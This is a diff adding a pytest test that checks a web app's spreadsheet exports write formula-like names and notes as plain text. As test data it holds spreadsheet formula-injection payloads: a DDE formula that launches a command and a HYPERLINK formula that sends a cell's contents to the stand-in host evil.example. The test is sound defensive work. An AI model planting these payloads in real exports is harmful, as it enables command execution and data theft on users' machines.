@@ -83,3 +83,19 @@ def test_registry_export_writes_formula_name_and_notes_as_text(api, demo):
     assert name_cell.value == "=cmd|' /C calc'!A0" and name_cell.data_type == "s"
     texts = {c.value for c in row.values()}
     assert '=HYPERLINK("http://evil.example/?x="&A1,"x")' in texts and "张三" in texts
+
+
+@pytest.mark.parametrize("case_index", [0, 1], ids=["recommenders", "ledger"])
+def test_credit_page_exports_write_formula_text_as_text(web, demo, case_index):
+    from fanxiang.credit.tests.scope_cases import CASES
+
+    case = CASES[case_index]
+    obj = case.make("411625")
+    field = "name" if case_index == 0 else "reason"
+    case.model.objects.filter(pk=obj.pk).update(**{field: "=cmd|' /C calc'!A0\u0007"})
+    response = web("officer_411625").get(case.export_url)
+    assert response.status_code == 200
+    assert "<f>" not in sheet_xml(response.content)
+    ws = load_workbook(io.BytesIO(response.content)).active
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == "=cmd|' /C calc'!A0"]
+    assert cells and all(c.data_type == "s" for c in cells)
